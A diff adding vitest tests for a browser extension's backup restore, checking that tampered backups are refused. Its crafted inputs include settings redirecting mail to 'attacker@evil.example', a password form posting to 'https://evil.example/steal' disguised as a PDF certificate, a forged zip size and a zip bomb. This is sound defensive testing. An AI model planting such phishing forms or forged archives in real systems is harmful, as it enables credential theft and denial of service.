@@ -4,7 +4,7 @@ import { unzipSync, zipSync } from 'fflate';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { browser } from 'wxt/browser';
 import { DB_VERSION, openStore } from '@/utils/store/db';
-import { applyRestore, createBackup, prepareRestore, RESTORE_NO_ROOM } from '@/utils/backup/store';
+import { applyRestore, createBackup, prepareRestore, readBackupFile, RESTORE_NO_ROOM } from '@/utils/backup/store';
 import { BackupError, INDEX_PATH, type BackupIndex } from '@/utils/backup/format';
 import { sha256Hex } from '@/utils/bytes';
 import { sampleRecord } from '../fixtures/db/samples';
@@ -129,6 +129,109 @@ describe('refused backups change nothing', () => {
 
   it('settings in the backup that are not valid', async () => {
     await refused(await edit((_, index) => void ((index.profile as { mailbox: string }).mailbox = 'not an email')), /settings in the backup are not valid/);
+  });
+});
+
+/** A store file's entries, edited as JSON; `rehash` in edit() keeps the index in step (a careful forger). */
+function editStore(files: Record<string, Uint8Array>, name: string, change: (entries: { key?: unknown; value: Record<string, unknown> }[]) => void): void {
+  const entries = JSON.parse(dec.decode(files[`stores/${name}.json`])) as { key?: unknown; value: Record<string, unknown> }[];
+  change(entries);
+  files[`stores/${name}.json`] = enc.encode(JSON.stringify(entries));
+}
+
+describe('every value restored is checked by its declaration (utils/data/)', () => {
+  it('a crafted saved detail (the evidence not collected) is refused, naming it', async () => {
+    // Restored unchecked, this made “Export evidence” throw.
+    const bad = await edit((files) => editStore(files, 'meta', (entries) => void (entries.find((e) => e.key === 'collect-failures')!.value = 'boom' as never)), true);
+    await refused(bad, /saved details .* are not valid \(saved detail “collect-failures”: /);
+  });
+
+  it('a saved detail this version does not know is refused, naming it', async () => {
+    const bad = await edit((files, index) => {
+      editStore(files, 'meta', (entries) => void entries.push({ key: 'redirect-email-to', value: 'attacker@evil.example' as never }));
+      index.stores.find((st) => st.name === 'meta')!.count += 1;
+    }, true);
+    await refused(bad, /saved detail “redirect-email-to”: this version of the extension does not know it/);
+  });
+
+  it('the Team report, the marks and the time log are checked too', async () => {
+    await refused(await edit((files) => editStore(files, 'timeLog', (entries) => void (entries[0]!.value.trackedMs = -5)), true), /time log entry 1, trackedMs: /);
+    await refused(await edit((files) => editStore(files, 'teamPeople', (entries) => void (entries[0]!.value.availability = 'fired')), true), /team mark 1, availability: /);
+    await refused(await edit((files) => editStore(files, 'teamReport', (entries) => void (entries[0]!.value.rows = 'all of them')), true), /team report “current”, rows: /);
+    await refused(await edit((files) => editStore(files, 'problems', (entries) => void (entries[0]!.value.title = { html: '<b>' })), true), /troubleshooting log entry 1, title: /);
+  });
+
+  it('settings in the backup: an unknown key, or the time log switch not in form, is refused, naming it', async () => {
+    await refused(await edit((_, index) => void (index.settings = { ...index.settings, mailboxOverride: 'attacker@evil.example' })), /the setting “mailboxOverride” is not one this version of the extension knows/);
+    await refused(await edit((_, index) => void (index.settings = { ...index.settings, timeLog: { enabled: 'yes', name: '' } })), /the setting “timeLog” is not valid \(enabled: /);
+    await refused(await edit((_, index) => void (index.settings = { ...index.settings, 'dismissed-alerts': {} })), /the setting “dismissed-alerts” is not one this version/);
+  });
+
+  it('a copy the extension rebuilds, or this device’s own state, in a backup is dropped: never restored', async () => {
+    const bad = await edit((files, index) => {
+      editStore(files, 'meta', (entries) => {
+        entries.push({ key: 'records-cache', value: { version: 1, records: [] } as never });
+        entries.push({ key: 'time-log-accepted-until', value: 8_000_000_000_000 as never });
+      });
+      index.stores.find((st) => st.name === 'meta')!.count += 2;
+    }, true);
+    await applyRestore(await prepareRestore(bad));
+    const db = await openStore();
+    expect(await db.get('meta', 'time-log-accepted-until')).toBeUndefined();
+    expect(await db.get('meta', 'records-cache')).toBeUndefined();
+  });
+});
+
+describe('evidence files are what they say they are (issue 14: a restored backup planted a web page as a certificate)', () => {
+  /** The certificate's file replaced by other bytes (checksums forged), and its item edited to match. */
+  async function swapCertificate(bytes: Uint8Array, item: (value: Record<string, unknown>) => void = () => undefined): Promise<Uint8Array> {
+    return edit((files) => {
+      editStore(files, 'evidence', (entries) => {
+        const cert = entries.find((e) => e.value.kind === 'certificate')!;
+        const data = cert.value.data as { file: string };
+        files[data.file] = bytes;
+        cert.value.size = bytes.length;
+        item(cert.value);
+      });
+    }, true);
+  }
+
+  it('a sign-in page stored as a PDF certificate: refused, naming the entry', async () => {
+    const page = enc.encode('<!doctype html><html><body><form action="https://evil.example/steal"><input type="password"></form></body></html>');
+    await refused(await swapCertificate(page), /evidence files .* are not valid \(evidence file 1 \(“UCL Fire Safety certificate\.pdf”\): the file is not really “application\/pdf” \(its contents are a web page\)\)/);
+  });
+
+  it('a web page stated as a web page, or a PDF whose file says it is HTML: refused', async () => {
+    const pdf = enc.encode('%PDF-1.4\n%%EOF\n');
+    await refused(await swapCertificate(pdf, (v) => void (v.contentType = 'text/html')), /a certificate cannot be of type “text\/html”/);
+    await refused(await swapCertificate(pdf, (v) => void ((v.data as { type: string }).type = 'text/html')), /the file says it is “text\/html”, not “application\/pdf”/);
+  });
+});
+
+describe('what a backup may unpack to is checked before anything is unpacked', () => {
+  it('a file whose zip directory claims more than the 2 GB ceiling: refused', async () => {
+    const claimed = 2_500_000_000;
+    const bad = await edit((_, index) => void (index.files.find((f) => f.path === 'stores/records.json')!.size = claimed));
+    // The central directory's "uncompressed size" of that entry, set to the same claim.
+    const name = enc.encode('stores/records.json');
+    const view = new DataView(bad.buffer, bad.byteOffset, bad.byteLength);
+    for (let i = 0; i < bad.length - 46; i++) {
+      if (view.getUint32(i, true) !== 0x02014b50) continue;
+      const nameLength = view.getUint16(i + 28, true);
+      if (nameLength === name.length && dec.decode(bad.subarray(i + 46, i + 46 + nameLength)) === 'stores/records.json') view.setUint32(i + 24, claimed, true);
+    }
+    await refused(bad, /It would unpack to 2\.3 GB; a backup holds at most 2\.0 GB/);
+  });
+
+  it('one entry far out of proportion to its size in the zip (a “zip bomb”): refused', async () => {
+    const bad = await edit((files) => void (files['stores/problems.json'] = enc.encode(`[${' '.repeat(30_000_000)}]`)), true);
+    await refused(bad, /stores\/problems\.json would unpack to 29 MB from \d+ KB, far more than a backup’s files ever do/);
+  });
+
+  it('a chosen file too large to be a backup is refused by its size, before it is read', async () => {
+    const huge = { size: 3 * 1024 ** 3, arrayBuffer: () => Promise.reject(new Error('read')) } as unknown as Blob;
+    await expect(readBackupFile(huge)).rejects.toThrow(/The file is 3\.0 GB, too large to be a backup \(a backup is at most 2\.0 GB\)/);
+    await expect(readBackupFile(new Blob([]))).rejects.toThrow(/The file is empty/);
   });
 });
 
